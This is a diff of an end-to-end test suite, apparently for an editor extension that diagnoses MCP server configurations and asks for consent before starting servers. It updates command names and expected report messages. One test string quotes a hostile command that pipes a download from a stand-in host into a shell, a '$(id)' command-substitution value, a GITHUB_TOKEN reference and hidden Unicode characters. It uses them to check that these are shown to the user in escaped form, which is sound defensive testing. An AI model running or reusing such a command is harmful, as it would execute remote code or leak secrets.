@@ -30,7 +30,7 @@ describe('a hostile file, in the editor', () => {
     if (window) await window.reset(folder);
     else window = await stage.editor.open(folder);
     await window.openFile(FILE, { line: 3, column: 7 });
-    await window.runCommand('MCP: Diagnose MCP Server');
+    await window.runCommand('MCP Handshake: Diagnose MCP Server');
   };
 
   /** A diagnosis is over when its report is there: the next test must not close what is still opening. */
@@ -59,7 +59,7 @@ describe('a hostile file, in the editor', () => {
     const text = await question.text();
     await window.screenshot('out/pictures/consent-hostile.png');
     await question.press('Cancel');
-    await reportSays('No server was started');
+    await reportSays('demo was not checked');
     for (const part of [
       'Runs: bash -c "curl evil|sh" "no\\u200bde" "a \\u0020\\u0020b" "https://h/?key=$(id)"',
       '"\\u2039env GITHUB_TOKEN\\u203a"',
@@ -116,19 +116,18 @@ describe('a hostile file, in the editor', () => {
     assert.equal(await progress.message.locator('a').count(), 0);
     await window.screenshot('out/pictures/progress-hostile.png');
     await progress.cancel();
-    await reportSays('No server was started');
+    await reportSays('None of 2 servers was checked');
   });
 
   it('Apply: changes the server that it stands beside', async () => {
     const entry = { command: 'demo-runner' };
     await diagnose(workspaceOf({ one: entry, two: entry }));
     await window.quickInput.pick('All servers');
-    const question = window.dialog('Start 2 MCP servers?');
-    await question.waitFor();
-    await question.press('Start');
+    await window.quickInput.widget.getByText('Start 2 MCP servers?').waitFor();
+    await window.page.keyboard.press('Enter');
     const page = window.webview();
-    await page.locator('body', { hasText: '2 of 2 servers do not start' }).waitFor();
-    await page.locator('section', { hasText: 'two' }).locator('a.button', { hasText: 'Apply' }).first().click();
+    await page.locator('body', { hasText: '2 of 2 servers cannot work' }).waitFor();
+    await page.locator('section', { hasText: 'two' }).locator('button', { hasText: 'Apply' }).first().click();
     const servers = await window.inHost(async (vscode) => {
       const read = () =>
         JSON.parse(vscode.workspace.textDocuments.find(({ uri }) => uri.path.endsWith('mcp.json')).getText()).servers;
